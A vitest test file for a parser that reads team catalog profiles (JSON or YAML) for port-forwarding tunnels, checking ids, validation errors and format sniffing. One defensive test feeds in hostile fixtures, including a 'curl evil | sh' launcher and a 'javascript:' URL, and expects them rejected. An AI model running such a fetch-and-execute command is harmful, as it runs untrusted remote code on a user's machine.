import { describe, expect, it } from 'vitest';
import { parseCatalogContent, sniffFormat } from '../../../../../electron/engine/catalogs/catalogContent.js';
import {
  catalogIdOfProfile,
  catalogProfileId,
  isCatalogProfileId,
} from '../../../../../electron/engine/catalogs/catalogIds.js';

const orders = {
  name: 'orders DB',
  kind: 'database',
  target: { kind: 'instance', instanceId: 'i-0123456789abcdef0' },
  remotePort: 5432,
};

describe('parseCatalogContent', () => {
  it('reads one profile per parameter (JSON or YAML), namespaced and marked as catalog profiles', () => {
    const { profiles, issues } = parseCatalogContent('c1', [
      { origin: '/team/db/orders', text: JSON.stringify(orders), shape: 'profile' },
      {
        origin: '/team/web/admin',
        text: 'name: admin\ntarget: { kind: tag, key: Role, value: web }\nremotePort: 8080\nbind: { port: 18080 }\n',
        shape: 'profile',
      },
    ]);
    expect(issues).toEqual([]);
    expect(profiles.map((p) => [p.name, p.source, p.remotePort])).toEqual([
      ['orders DB', 'catalog:c1', 5432],
      ['admin', 'catalog:c1', 8080],
    ]);
    expect(profiles[1]!.bind).toEqual({ address: '127.0.0.1', port: 18080 });
    // Stable id from the parameter name: the same parameter keeps its id (and its tunnel) across refreshes.
    expect(profiles[0]!.id).toBe(catalogProfileId('c1', '/team/db/orders'));
    expect(isCatalogProfileId(profiles[0]!.id)).toBe(true);
    expect(catalogIdOfProfile(profiles[0]!.id)).toBe('c1');
    expect(profiles[0]!.id.length).toBeLessThanOrEqual(64);
  });

  it('ignores id and source written in the catalog (no catalog can impersonate a personal profile)', () => {
    const { profiles } = parseCatalogContent('c1', [
      {
        origin: '/team/x',
        text: JSON.stringify({ ...orders, id: 'my-personal-id', source: 'personal' }),
        shape: 'profile',
      },
    ]);
    expect(profiles[0]!.id).not.toBe('my-personal-id');
    expect(profiles[0]!.source).toBe('catalog:c1');
  });

  it('reports bad entries by where they came from and keeps the good ones', () => {
    const { profiles, issues } = parseCatalogContent('c1', [
      { origin: '/team/ok', text: JSON.stringify(orders), shape: 'profile' },
      {
        origin: '/team/bad-port',
        text: JSON.stringify({ ...orders, name: 'x', remotePort: 70000 }),
        shape: 'profile',
      },
      { origin: '/team/broken', text: '{"name": "y",', shape: 'profile' },
      { origin: '/team/list', text: '[1, 2]', shape: 'profile' },
      { origin: '/team/dup', text: JSON.stringify({ ...orders, name: 'ORDERS db' }), shape: 'profile' },
    ]);
    expect(profiles.map((p) => p.name)).toEqual(['orders DB']);
    expect(issues.map((i) => i.path)).toEqual([
      '/team/bad-port:remotePort',
      '/team/broken',
      '/team/list',
      '/team/dup:name',
    ]);
    expect(issues[0]!.message).toContain('65535');
    expect(issues[1]!.message).toMatch(/cannot parse the JSON document/);
    expect(issues[3]!.message).toContain('/team/ok');
  });

  it('reads a whole profiles document (file, URL) in YAML, keyed by profile name', () => {
    const yaml = [
      'version: 1',
      'profiles:',
      '  - name: orders DB',
      '    target: { kind: instance, instanceId: i-0123456789abcdef0 }',
      '    remotePort: 5432',
      '  - name: no port',
      '    target: { kind: instance, instanceId: i-0123456789abcdef0 }',
      '',
    ].join('\n');
    const { profiles, issues } = parseCatalogContent('c2', [
      { origin: '/srv/team.yaml', text: yaml, shape: 'document', format: 'yaml' },
    ]);
    expect(profiles.map((p) => p.name)).toEqual(['orders DB']);
    expect(profiles[0]!.id).toBe(catalogProfileId('c2', 'orders db'));
    expect(issues).toEqual([
      { path: '/srv/team.yaml:profiles[1].remotePort', message: expect.any(String) as string },
    ]);
  });

  it('never lets a catalog run programs or listen beyond loopback (reported, profile kept)', () => {
    const entries = [
      { launcher: { kind: 'command', argv: ['sh', '-c', 'curl evil | sh'] } },
      { launcher: { kind: 'database', template: 'psql -h {host} -p {port}' } },
      { launcher: { kind: 'url', template: 'javascript:alert(1)' } },
      { launcher: { kind: 'database', template: 'postgres://{user}@{host}:{port}/orders', user: 'app' } },
      { bind: { address: '0.0.0.0', port: 5432, allowNonLoopback: true } },
    ].map((extra, i) => ({
      origin: `/team/p${i}`,
      text: JSON.stringify({ ...orders, name: `p${i}`, ...extra }),
      shape: 'profile' as const,
    }));
    const { profiles, issues } = parseCatalogContent('c1', entries);
    expect(profiles.map((p) => p.launcher.kind)).toEqual(['none', 'none', 'none', 'database', 'none']);
    expect(profiles[4]!.bind).toEqual({ address: '127.0.0.1', port: 5432 });
    expect(issues.map((i) => i.path)).toEqual([
      '/team/p0:launcher',
      '/team/p1:launcher',
      '/team/p2:launcher',
      '/team/p4:bind.address',
    ]);
    expect(issues[0]!.message).toContain('runs a program');
  });

  it('sniffs JSON by its first character and reads the rest as YAML', () => {
    expect(sniffFormat('  {"a":1}')).toBe('json');
    expect(sniffFormat('[]')).toBe('json');
    expect(sniffFormat('name: x')).toBe('yaml');
  });
});
